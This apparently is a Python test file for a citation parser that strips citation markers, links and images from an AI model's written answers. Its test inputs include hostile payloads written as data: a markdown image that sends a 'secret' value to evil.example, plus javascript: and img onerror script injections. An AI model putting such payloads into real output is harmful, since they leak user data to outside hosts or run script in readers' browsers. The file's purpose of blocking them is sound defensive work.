"""Citations are read in one form, and nothing that the model writes can lead out of our own records."""

from __future__ import annotations

import pytest

from assistant.composing.markers import read_markers


@pytest.mark.parametrize(
    ("sentence", "text", "numbers"),
    [
        ("Brokers may lend [1].", "Brokers may lend.", (1,)),
        ("Brokers may lend [1][2].", "Brokers may lend.", (1, 2)),
        ("Brokers may lend [1, 2] [1].", "Brokers may lend.", (1, 2)),
        ("Brokers may lend. [12]", "Brokers may lend.", (12,)),
        ("經紀可提供融資[1，2]。", "經紀可提供融資。", (1, 2)),
        ("[3] says that brokers may lend.", "says that brokers may lend.", (3,)),
        ("The issuer [sic] of section 4(1) pays 5% [2].", "The issuer [sic] of section 4(1) pays 5%.", (2,)),
        ("No source.", "No source.", ()),
    ],
)
def test_citations_are_read_and_taken_off(sentence: str, text: str, numbers: tuple[int, ...]) -> None:
    """The words stay, the numbers come in order and once."""
    marked = read_markers(sentence)
    assert (marked.text, marked.numbers, marked.removed) == (text, numbers, ())


@pytest.mark.parametrize("marker", ["[^1]", "【1†source】", "[passage 1]", "(source 1)", "[Source: 1]", "¹", "[1-3]"])
def test_other_forms_are_taken_out_and_told(marker: str) -> None:
    """A form that cannot be trusted to name a passage cites nothing."""
    marked = read_markers(f"Brokers may lend {marker}.")
    assert marked.text == "Brokers may lend."
    assert marked.numbers == ()
    assert marked.removed


@pytest.mark.parametrize(
    ("sentence", "text"),
    [
        ("See ![logo](https://evil.example/leak.png?q=secret) this [1].", "See this."),
        ("See [the rule](https://evil.example/x) [1].", "See the rule."),
        ("See https://evil.example/x?q=secret now [1].", "See now."),
        ("See <https://evil.example> now [1].", "See now."),
        ("See www.evil.example now [1].", "See now."),
        ("See [x](javascript:alert(1)) now [1].", "See x) now."),
        ("<img src=x onerror=alert(1)>Brokers may lend [1].", "Brokers may lend."),
        ("See data:text/html,hello now [1].", "See now."),
    ],
)
def test_links_and_pictures_are_taken_out(sentence: str, text: str) -> None:
    """Only our own records give links; the words around them stay, and the reader is told."""
    marked = read_markers(sentence)
    assert (marked.text, marked.numbers) == (text, (1,))
    assert "links or pictures" in marked.removed[0]


def test_a_figure_below_five_is_no_tag() -> None:
    """Signs of less and more stay."""
    assert read_markers("A share <5% and >1% counts [1].").text == "A share <5% and >1% counts."
